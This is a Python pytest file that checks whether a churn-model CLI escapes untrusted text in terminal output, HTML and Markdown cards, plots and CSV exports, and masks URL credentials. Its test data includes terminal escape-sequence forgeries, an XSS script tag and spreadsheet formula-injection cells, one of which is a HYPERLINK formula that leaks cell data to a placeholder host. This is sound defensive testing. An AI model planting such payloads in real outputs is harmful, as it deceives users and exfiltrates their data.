"""Text from outside stays text wherever it is shown.

It may be a terminal, a page or a spreadsheet. And no password is shown.
"""

import contextlib
import csv
import json
import os
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from matplotlib.figure import Figure

from conftest import TABLE, Done, Run
from fields import required
from own import CONTRACT, ID, PROJECT, TARGET
from skewless.core.checkout import Checkout
from skewless.core.errors import ConfigError, TableError
from skewless.core.escaping import (
    code,
    in_html,
    in_markdown,
    masked,
    printable,
    shown_only,
)
from skewless.core.sections import RegistryConfig
from skewless.core.url import Url
from skewless.models.artifact import read_artifact
from skewless.models.card import render_card
from skewless.models.card_page import render_card_page
from skewless.models.metadata import Imputation, Metadata
from skewless.models.plots import draw_distribution
from skewless.registry.remote import open_registry
from skewless.tables.cells import written
from skewless.tables.simulate import simulate
from skewless.tables.table import write_table

FORGED = "FORGED: all is well"
HOSTILE = f"a\x1b[1A\x1b[2K\x1b]0;x\x07\r\x9b2J\u202e\u2066\u2028\u200b\n{FORGED}\nb"
NAME = HOSTILE.replace("/", "")
SCRIPT = (
    "<script>alert(1)</script> a|b `x` *b* _c_ [d](http://e) "
    "<img src=x> &lt; $f$ ~~g~~ \\|"
)
SECRET = "correct-horse"  # noqa: S105 - what must not be seen
URLS = [
    f"http://user:{SECRET}@127.0.0.1:9/x",
    f"http://user:{SECRET}@127.0.0.1:9/x.csv",
    f"http://:{SECRET}@127.0.0.1:9/x.csv",
    f"http://user:a/{SECRET}@127.0.0.1:9/x.csv",
    f"http://127.0.0.1:9/x.csv?sv=1&sig={SECRET}",
    f"http://127.0.0.1:9/x.csv?X-Amz-Signature={SECRET}&X-Amz-Credential={SECRET}",
    f"http://127.0.0.1:9/x.csv?AWSAccessKeyId={SECRET}#part",
    f"simplecache::http://user:{SECRET}@127.0.0.1:9/x.csv",
    f"unheard-of://user:{SECRET}@host/x.csv",
    f"https://me@corp:{SECRET}@127.0.0.1:9/x",
    f"https://{SECRET}@127.0.0.1:9/x",
    f"http://user:a@{SECRET}@127.0.0.1:9/x.csv",
    f"http://user:a?{SECRET}@127.0.0.1:9/x.csv",
    f"http://user:a#{SECRET}@127.0.0.1:9/x.csv",
    f"http://user:a {SECRET}@127.0.0.1:9/x.csv",
    f"http://user:{SECRET}/b@127.0.0.1:9/x.csv",
    f"HTTP://user:{SECRET}@127.0.0.1:9/x.csv",
    f"  http://user:{SECRET}@127.0.0.1:9/x.csv ",
    f"http://127.0.0.1:9/x.csv?code={SECRET}",
    f"http://127.0.0.1:9/x.csv?{SECRET}=",
    f"http://127.0.0.1:9/x.csv#access_token={SECRET}",
    f"http://127.0.0.1:9/x.csv;token={SECRET}",
    f"http://127.0.0.1:9/x.csv?u=https%3A%2F%2Fu%3A{SECRET}%40h",
    f"zip://in.csv::http://user:{SECRET}@127.0.0.1:9/x.zip",
]
MISTYPED = [
    f"s3:/key:{SECRET}@bucket/x",
    f"//u:{SECRET}@h/x",
    f"key:{SECRET}@bucket/x",
    f"https:\\\\u:{SECRET}@h/x",
    f"https:/h/x?sig={SECRET}",
]
PROGRAM = [sys.executable, "-m", "churn_service"]
posix = pytest.mark.posix


@pytest.fixture
def own(trained: Path, tmp_path: Path) -> Path:
    """Return a project with a version and an event, which a test may change."""
    return Path(shutil.copytree(trained, tmp_path / "own"))


def assert_plain(done: Done) -> None:
    """Check that a terminal obeys nothing of what a command printed.

    No line of it may be from outside either.
    """
    lines = f"{done.stdout}\n{done.stderr}".split("\n")
    assert [line for line in lines if not line.isprintable()] == []
    assert [line for line in lines if line.startswith("FORGED")] == []
    assert SECRET not in f"{done.stdout}{done.stderr}"


def configure(folder: Path, section: str, **keys: object) -> None:
    document = yaml.safe_load((folder / "config.yaml").read_text())
    document[section] = document.get(section, {}) | keys
    (folder / "config.yaml").write_text(yaml.safe_dump(document))


def customers(rows: int = 20) -> pd.DataFrame:
    table = pd.DataFrame(simulate(rows, 3, CONTRACT))
    dates = {
        name: cells
        for name, cells in written(table, CONTRACT).items()
        if name != TARGET
    }
    return (
        table.assign(**dates).astype({required(): "str"}).astype({required(): object})
    )


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_a_bad_cell_is_printed_as_text(own: Path, run: Run, suffix: str):
    table = customers().astype(object)
    table.loc[1, ID], table.loc[2, required()], table.loc[3, TARGET] = (
        HOSTILE,
        HOSTILE,
        HOSTILE,
    )
    write_table(table.astype("str"), own / f"bad{suffix}", CONTRACT)
    configure(own, "data", path=f"bad{suffix}")

    done = run(own, "train")

    assert (done.returncode, r"\x1b[1A\x1b[2K" in done.stderr) == (3, True)
    assert_plain(done)


def test_a_bad_cell_of_a_scored_file_is_text_in_the_list_of_rejects(
    own: Path, run: Run
):
    table = customers()
    table.loc[2, required()] = HOSTILE
    write_table(table, own / "in.csv", CONTRACT)

    done = run(own, "score", "in.csv", "out.csv")

    assert done.returncode == 0
    assert_plain(done)
    (rejected,) = csv.DictReader((own / "out.rejects.csv").read_text().splitlines())
    assert rejected["found"] == printable(HOSTILE)


@posix
@pytest.mark.parametrize(
    "name", [NAME, os.fsdecode(b"\xff\xfe")], ids=["controls", "no UTF-8"]
)
@pytest.mark.slow
def test_names_of_files_and_folders_are_printed_as_text(own: Path, run: Run, name: str):
    folder = own / f"{name}.d"
    folder.mkdir()
    write_table(customers(), folder / f"{name}.csv", CONTRACT)
    write_table(customers(), folder / "good.csv", CONTRACT)
    (folder / f"_{name}").touch()

    words = [
        ("score", folder / f"{name}.csv", "out.csv"),
        ("score", folder / f"{name}.none", "out.csv"),
        ("score", folder, f"{name}.out"),
        ("score", folder, "two", "--only", name),
        ("score", "data", f"{name}.csv"),
        ("sample", folder / f"{name}.csv"),
        ("sample", folder / f"{name}.parquet", "--rows", "10"),
        ("evaluate", folder / f"{name}.csv"),
        ("evaluate", f"{name}.none.csv"),
        ("train", "--faults", name),
        ("registry", "list", "--config", folder / "config.yaml"),
        ("registry", "show", name),
        ("registry", "promote", name, "--to", "production"),
        ("registry", "promote", "newest", "--to", "staging", "--reason", name),
        ("outcomes", folder / f"{name}.csv"),
        ("log", "find", name),
        ("drift", "--since", name),
    ]
    for each in words:
        done = run(own, *each)

        assert done.stdout or done.stderr
        assert_plain(done)


@posix
@pytest.mark.parametrize("words", [(NAME,), ("train", NAME), ("train", f"--{NAME}")])
@pytest.mark.slow
def test_a_wrong_command_or_option_reaches_no_terminal_with_a_control_character(
    own: Path, words: tuple[str, ...]
):
    done = subprocess.run([*PROGRAM, *words], cwd=own, capture_output=True, check=False)

    # laid out by typer, which lets marks of direction through
    printed = done.stderr.decode()
    assert done.returncode == 2
    assert not {*map(chr, (*range(32), *range(127, 160)))} - {"\n"} & {*printed}
    assert f"\n{FORGED}" not in printed


@posix
def test_a_file_of_a_folder_that_cannot_be_scored_is_named_as_text(own: Path, run: Run):
    (own / "in").mkdir()
    (own / "in" / f"{NAME}.csv").write_text(f"{HOSTILE},b\n1,2\n")
    (own / "in" / f"{NAME}.parquet").write_bytes(b"no Parquet")

    done = run(own, "score", "in", "out")
    told = run(own, "score", "in", "out", "--json")

    assert (done.returncode, len(done.stderr.splitlines())) == (3, 3)
    assert_plain(done)
    assert {
        HOSTILE in each["source"] for each in json.loads(told.stdout)["failed"]
    } == {True}
    assert told.stdout.isascii()
    (own / "in" / NAME).touch()
    assert_plain(run(own, "score", "in", "again"))


@pytest.mark.parametrize("variable", ["LOGNAME", "USER"])
@pytest.mark.slow
def test_who_trained_is_printed_as_text(
    own: Path, run: Run, monkeypatch: pytest.MonkeyPatch, variable: str
):
    for name in ("LOGNAME", "USER", "LNAME", "USERNAME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv(variable, HOSTILE)
    shutil.rmtree(own / "models")
    assert run(own, "train").returncode == 0

    done = run(own, "registry", "history")
    told = run(own, "registry", "history", "--json")

    assert printable(HOSTILE) in done.stdout
    assert_plain(done)
    assert_plain(run(own, "registry", "show"))
    # exact for a program
    assert json.loads(told.stdout)["who"].startswith(f"{HOSTILE}@")


@pytest.mark.parametrize(
    "key", ["who", "reason", "time", "version", "before", "image_tag", "id"]
)
@pytest.mark.slow
def test_an_event_that_somebody_wrote_is_printed_as_text(own: Path, run: Run, key: str):
    (path,) = (own / "models/events").iterdir()
    path.write_text(json.dumps(json.loads(path.read_text()) | {key: HOSTILE}))

    for words in (
        ["history"],
        ["list"],
        ["show"],
        ["verify"],
        ["history", "production"],
    ):
        assert_plain(run(own, "registry", *words))
    assert_plain(run(own, "doctor"))


def test_the_evidence_of_an_event_is_printed_as_text(own: Path, run: Run):
    (path,) = (own / "models/events").iterdir()
    event = json.loads(path.read_text())
    check = {"name": HOSTILE, "passed": False, "said": HOSTILE}
    promoted = event | {
        "number": 2,
        "kind": "promote",
        "alias": "production",
        "evidence": [check],
    }
    path.with_name("00000002.json").write_text(json.dumps(promoted))

    done = run(own, "registry", "history", "production")

    assert_plain(done)
    assert_plain(run(own, "registry", "rollback"))


@pytest.mark.parametrize(
    "text",
    [
        'model: "\\e[1A\\e[2K\\nFORGED"',
        '"\\e[1A\\nFORGED": 1',
        'data: {"\\e[1A\\nFORGED": "\\e[2K\\nFORGED"}',
        "data: !<tag:\\x1b\u202eFORGED> 1",
        "a: [\u202e\nFORGED: b",
        "a: b: c\nFORGED",
    ],
)
@pytest.mark.slow
def test_a_configuration_is_quoted_as_text(own: Path, run: Run, text: str):
    (own / "config.yaml").write_text(text)

    done = run(own, "registry", "list")

    assert done.returncode == 2
    assert_plain(done)


@pytest.mark.parametrize("section", ["data", "registry"])
@pytest.mark.slow
def test_a_path_of_the_configuration_is_printed_as_text(
    own: Path, run: Run, section: str
):
    configure(own, section, path=HOSTILE)

    for words in (
        ["train"],
        ["registry", "list"],
        ["doctor"],
        ["evaluate"],
        ["registry", "verify"],
    ):
        done = run(own, *words)

        assert done.stdout or done.stderr
        assert_plain(done)


def test_headers_and_types_of_a_table_are_printed_as_text(own: Path, run: Run):
    nested = pd.Series([{HOSTILE: 1}] * 20)
    customers().assign(**{required(): nested, HOSTILE: 1}).to_parquet(
        own / "in.parquet"
    )

    done = run(own, "score", "in.parquet", "out.csv")

    assert (done.returncode, "struct" in done.stderr) == (3, True)
    assert_plain(done)


@given(st.text())
def test_what_is_printable_is_one_line_and_stays_as_it_is_when_it_is_made_so_again(
    text: str,
):
    shown = printable(text)

    assert shown.isprintable()
    assert printable(shown) == shown
    assert str(ConfigError(text, "second")).split("\n") == [shown, "second"]


@given(st.text("ab1:/@?#;.*[] '"))
def test_what_is_masked_stays_as_it_is_when_it_is_masked_again(text: str):
    shown = printable(text)

    assert printable(shown) == shown


def test_an_error_from_a_worker_says_the_same_here():
    import pickle  # noqa: TID251 - as a cluster does

    error = TableError("one", HOSTILE, faults=pd.DataFrame({"row": [1]}))

    came = pickle.loads(pickle.dumps(error))  # noqa: S301 - our own

    assert (str(came), came.faults["row"].tolist()) == (str(error), [1])


@pytest.mark.parametrize("url", [*URLS, *MISTYPED])
@pytest.mark.parametrize("place", ["source", "out", "registry", "settings"])
@pytest.mark.slow
def test_no_command_shows_a_password_of_a_url(
    own: Path, run: Run, monkeypatch: pytest.MonkeyPatch, url: str, place: str
):
    if place == "registry":
        configure(own, "registry", path=url)
    if place == "settings":
        monkeypatch.setenv("CHURN_REGISTRY_URL", url)
    words: list[list[str]] = [
        ["registry", "list"],
        ["registry", "verify"],
        ["doctor"],
        ["registry", "show"],
    ]
    words += [["train", "--reproduce", "newest"]]
    words += [["registry", "promote", "newest", "--to", "production"]]
    words += [["serve"]]
    if place == "source":
        words = [["score", url, "out.csv"], ["score", url, "out.csv", "--json"]]
    if place == "out":
        words = [["score", TABLE, url], ["score", "data", url, "--only", "*.csv"]]

    for each in words:
        done = run(own, *each)

        assert done.stdout or done.stderr
        assert_plain(done)


def test_a_program_is_told_of_a_place_without_its_password(own: Path, run: Run):
    out = f"memory://user:{SECRET}@host/out.csv"

    done = run(own, "score", TABLE, out, "--json")

    assert not done.stderr
    assert (done.returncode, json.loads(done.stdout)["output"]) == (
        0,
        "memory://***@host/out.csv",
    )
    assert_plain(done)


def test_what_an_output_keeps_of_its_source_holds_no_password(own: Path, run: Run):
    import fsspec

    folder = f"memory://user:{SECRET}@host/{own.name}"
    with fsspec.open(f"{folder}/in.csv", "w") as file:
        file.write(customers().to_csv(index=False))

    done = run(own, "score", folder, "out")

    assert done.returncode == 0, done.stderr
    assert SECRET.encode() not in b"".join(
        path.read_bytes() for path in (own / "out").iterdir()
    )


@pytest.mark.parametrize("url", [*URLS, *MISTYPED])
def test_a_url_shows_itself_without_what_grants_access(url: str):
    held = Url(url)

    assert held == Url(url)
    assert SECRET not in f"{held} {held!r} {[held]}"
    assert printable(held) == str(held)
    assert held.shows_secret(f"no host {SECRET}") or url in MISTYPED


@pytest.mark.parametrize("url", [url for url in URLS if Url(url).is_url])
@pytest.mark.parametrize(
    "sentence",
    ["{}", "cannot reach '{}'.", "({}), and mail me", "http://h, a@b and {}"],
)
def test_a_text_shows_no_password_of_a_url_in_it(url: str, sentence: str):
    assert SECRET not in printable(sentence.format(url))


@pytest.mark.parametrize(
    "url",
    [
        "models",
        "~/models",
        "./a:b@c",
        "C:\\a:b@c",
        "C:/a:b@c",
        "s3://bucket/a",
        "s3://bucket/a@b",
        "file:///in/part#1@b.csv",
        "tcp://h:1",
        "http://[::1]:80/x",
        "postgresql://a:1,b:2/name",
    ],
)
def test_a_url_without_a_password_shows_all_of_itself(url: str):
    assert str(Url(url)) == masked(url) == Url(url).get_secret_value() == url


@pytest.mark.parametrize("sign", "@/?# ")
def test_a_password_that_is_not_percent_encoded_is_refused(sign: str):
    with pytest.raises(ConfigError, match="percent-encode") as refused:
        Url(f"https://me:SE{sign}CRET@127.0.0.1/x").get_secret_value()

    assert "SE" not in str(refused.value)
    assert "CRET" not in str(refused.value)


@pytest.mark.parametrize("url", MISTYPED)
@pytest.mark.parametrize("words", [["registry", "list"], ["train"]])
@pytest.mark.parametrize("by_variable", [True, False])
@pytest.mark.slow
def test_a_mistyped_url_is_not_taken_for_a_folder(
    own: Path,
    run: Run,
    monkeypatch: pytest.MonkeyPatch,
    url: str,
    words: list[str],
    *,
    by_variable: bool,
):
    if by_variable:
        monkeypatch.setenv("CHURN_REGISTRY_URL", url)
    else:
        configure(own, "registry", path=url)

    done = run(own, *words)

    assert (done.returncode, len(done.stderr.splitlines())) == (2, 1)
    assert ("CHURN_REGISTRY_URL" if by_variable else "registry.path") in done.stderr
    assert "looks like a mistyped URL" in done.stderr
    assert_plain(done)


@pytest.mark.parametrize("blank", ["", " "])
def test_a_scheme_is_one_in_any_letters_and_after_blanks(blank: str):
    assert Url(f"{blank}SimpleCache::S3://Bucket/X{blank}") == Url(
        "simplecache::s3://Bucket/X"
    )
    assert Url(" in.csv").get_secret_value() == " in.csv"


def test_urls_that_show_themselves_alike_have_mirrors_of_their_own(tmp_path: Path):
    def folder(url: str) -> Path:
        return open_registry(RegistryConfig(path=url, cache="cache"), tmp_path).folder

    assert folder("memory://a/x@b") != folder("memory://c/x@b")
    assert folder("memory://h/x?a=1") != folder("memory://h/x?a=2")
    assert (
        folder("memory://me:old@h/x")
        == folder("memory://me:new@h/x")
        == folder("memory://h/x/")
    )


def test_a_registry_may_be_in_the_home_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("HOME", str(tmp_path / "me"))
    monkeypatch.setenv("USERPROFILE", str(tmp_path / "me"))

    assert (
        open_registry(RegistryConfig(path="~/x", cache="c"), tmp_path).folder
        == tmp_path / "me/x"
    )
    with pytest.raises(ConfigError, match=r"registry\.path: ~nobody-of-that-name/x"):
        open_registry(
            RegistryConfig(path="~nobody-of-that-name/x", cache="c"), tmp_path
        )


class Seen(HTMLParser):
    """Remembers the tags of a page and the text of each cell."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.cells: list[str] = []
        self.texts: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, _: Any) -> None:
        self.tags.append(tag)
        if tag in {"td", "th", "p"}:
            self.cells.append("")

    def handle_data(self, data: str) -> None:
        if self.cells:
            self.cells[-1] += data

    def handle_endtag(self, tag: str) -> None:
        if tag in {"td", "th", "p"}:
            self.texts.append(self.cells.pop())


def rendered(markdown: str) -> Seen:
    return Seen(
        MarkdownIt("commonmark", {"html": True})
        .enable(["table", "strikethrough"])
        .render(markdown)
    )


@given(st.text() | st.text("`|\\*_[]<>&~$\n! a#-=1"))
def test_markdown_shows_any_text_as_it_is(text: str):
    seen = rendered(
        "| a | b |\n|---|---|\n"
        f"| x{in_markdown(text)}x | {code(f'x{text}x', cell=True)} |\n"
    )

    assert seen.tags == [
        "table",
        "thead",
        "tr",
        "th",
        "th",
        "tbody",
        "tr",
        "td",
        "td",
        "code",
    ]
    assert seen.texts[2:] == [f"x{in_html(text)}x"] * 2
    assert rendered(f"y {in_markdown(text)} {code(f'x{text}x')} y").tags == [
        "p",
        "code",
    ]
    assert rendered(f"y {code(f'x{text}x')} y").texts == [f"y x{in_html(text)}x y"]


@pytest.fixture(scope="module")
def metadata(version: Path) -> Metadata:
    return read_artifact(version).metadata


def with_words(metadata: Metadata, word: str) -> Metadata:
    """Put a word wherever text from outside may stand in a card."""
    first, *others = metadata.identity.columns
    category = first.model_copy(
        update={
            "name": word,
            "kind": "category",
            "categories": (word, "b"),
            "description": word,
        }
    )
    identity = metadata.identity.model_copy(
        update={
            "columns": (category, *others),
            "feature_names": (word, *metadata.identity.feature_names),
            "features": {word: word},
        }
    )
    segments = [
        each.model_copy(update={"column": word, "value": word})
        for each in metadata.segments
    ]
    step = metadata.fitted.steps[0].model_copy(
        update={"name": word, "knobs": {word: word}}
    )
    fitted = metadata.fitted.model_copy(
        update={
            "steps": (step,),
            "missing": "imputed",
            "imputations": (Imputation(name=word, strategy=word, is_told=True),),
        }
    )
    columns = metadata.reference.columns
    reference = metadata.reference.model_copy(
        update={"columns": columns | {word: columns[first.name]}}
    )
    changed = {
        "segments": tuple(segments),
        "fitted": fitted,
        "reference": reference,
        "identity": identity,
        "checkout": Checkout("unknown", None, word),
        "training": {word: {word: word}},
        "provenance": metadata.provenance | {"python": word, "libraries": {word: word}},
        "holdout": metadata.holdout.model_copy(update={"salt": word}),
        "trained_at": word,
        "version": word,
    }
    return metadata.model_copy(update=changed)


@pytest.mark.parametrize(
    "word", [HOSTILE, SCRIPT, f"{SCRIPT}\n\n# x\n\n|---|\n```\n<script>"]
)
def test_a_card_shows_hostile_words_as_text(metadata: Metadata, word: str):
    plain, hostile = (
        render_card(with_words(metadata, each), PROJECT) for each in ("word", word)
    )

    assert all(each.isprintable() for each in hostile.split("\n"))
    assert rendered(hostile).tags == rendered(plain).tags
    assert sum(in_html(word).strip() in cell for cell in rendered(hostile).texts) > 8


@pytest.mark.parametrize("word", [HOSTILE, SCRIPT, f"$x$ {SCRIPT}", "猫 \u0e01 ü"])
def test_a_card_as_a_page_shows_hostile_words_as_text(metadata: Metadata, word: str):
    plain, hostile = (
        render_card_page(with_words(metadata, each), PROJECT) for each in ("word", word)
    )

    seen = Seen(hostile)
    assert all(each.isprintable() for each in hostile.split("\n"))
    assert not {"script", "img", "a", "link"}.intersection(seen.tags)
    assert seen.tags.count("td") == Seen(plain).tags.count("td")
    assert sum(in_html(word).strip() in cell for cell in seen.texts) > 8


def test_a_name_with_dollars_is_no_formula_in_a_picture():
    column = CONTRACT.columns[0].model_copy(
        update={"name": "$\\frac$", "kind": "category", "categories": ("$a$", "b")}
    )
    figure = Figure()
    axes = figure.subplots()

    draw_distribution(axes, pd.Series(["$a$", "b", "b"]), column)
    figure.canvas.draw()

    assert axes.get_title() == r"\$\frac\$"


CELLS = [
    '=HYPERLINK("http://e/"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "＝1+1",  # noqa: RUF001 - the wide form of East Asia
    "a;=1+1",
    'a";"=1+1',
    "a|@b",
    "-5",
    "+5.0e3",
    "a=b",
]


def test_only_for_a_spreadsheet_is_a_cell_written_so_that_it_is_not_run(
    own: Path, run: Run
):
    table = customers(len(CELLS) + 1)
    table[ID] = [*CELLS, "c-1"]
    table.loc[len(CELLS), required()] = "=1+1"
    write_table(table, own / "in.csv", CONTRACT)

    exact = run(own, "score", "in.csv", "exact.csv")
    shown = run(own, "score", "in.csv", "shown.csv", "--spreadsheet")

    assert (exact.returncode, shown.returncode) == (0, 0), shown.stderr
    read = {
        name: pd.read_csv(own / f"{name}.csv", dtype={ID: "str"})
        for name in ("exact", "shown")
    }
    assert read["exact"][ID].tolist() == CELLS  # what is joined on stays as it is
    assert read["shown"][ID].tolist() == [shown_only(cell) for cell in CELLS]
    assert read["shown"].drop(columns=ID).equals(read["exact"].drop(columns=ID))
    rejected = {
        name: pd.read_csv(own / f"{name}.rejects.csv")["found"].tolist()
        for name in read
    }
    assert rejected == {"exact": ["=1+1"], "shown": ["'=1+1"]}


@pytest.mark.parametrize("sign", [*"=+-@\t\r\n", *"＝＋－＠"])  # noqa: RUF001 - wide forms
@pytest.mark.parametrize("before", ["", ";", "a;", '"', "\t", "|"])
def test_what_begins_a_formula_never_begins_a_cell(sign: str, before: str):
    shown = shown_only(f"{before}{sign}A1")

    assert f"'{sign}A1" in shown
    assert shown.replace("'", "") == f"{before}{sign}A1"


@pytest.mark.parametrize("number", ["-5", "+5", "-0.5", "1e-5", "-1E+9"])
def test_a_number_stays_a_number_for_a_spreadsheet(number: str):
    assert shown_only(number) == number


@pytest.mark.parametrize(
    ("source", "out"), [("in.csv", "out.parquet"), ("data", "out")]
)
def test_parquet_is_no_spreadsheet(own: Path, run: Run, source: str, out: str):
    write_table(customers(), own / "in.csv", CONTRACT)

    done = run(own, "score", source, out, "--spreadsheet")

    assert (done.returncode, "--spreadsheet" in done.stderr, (own / out).exists()) == (
        2,
        True,
        False,
    )


@posix
@pytest.mark.slow
def test_a_terminal_gets_no_control_character(own: Path):
    """A pipe would not do: typer writes no escape sequences to one anyway."""
    (path,) = (own / "models/events").iterdir()
    path.write_text(
        json.dumps(json.loads(path.read_text()) | {"who": HOSTILE, "reason": HOSTILE})
    )
    table = customers()
    table.loc[2, required()] = HOSTILE
    write_table(table.astype("str"), own / "bad.csv", CONTRACT)
    configure(own, "data", path="bad.csv")

    for words in (["train"], ["registry", "history"], ["evaluate", f"{NAME}.csv"]):
        shown = on_a_terminal(own, *words)

        assert r"\x1b[1A\x1b[2K" in shown
        assert_plain(Done(0, shown.replace("\r\n", "\n"), ""))


def on_a_terminal(folder: Path, *words: str) -> str:
    """Run a command as a person does, and return all that their terminal is sent."""
    import pty  # not on Windows

    ours, theirs = pty.openpty()
    started = subprocess.Popen(
        [*PROGRAM, *words], cwd=folder, stdout=theirs, stderr=theirs
    )
    os.close(theirs)
    shown = b""
    with contextlib.suppress(OSError):  # how a terminal ends
        while part := os.read(ours, 4096):
            shown += part
    os.close(ours)
    started.wait()
    return shown.decode()
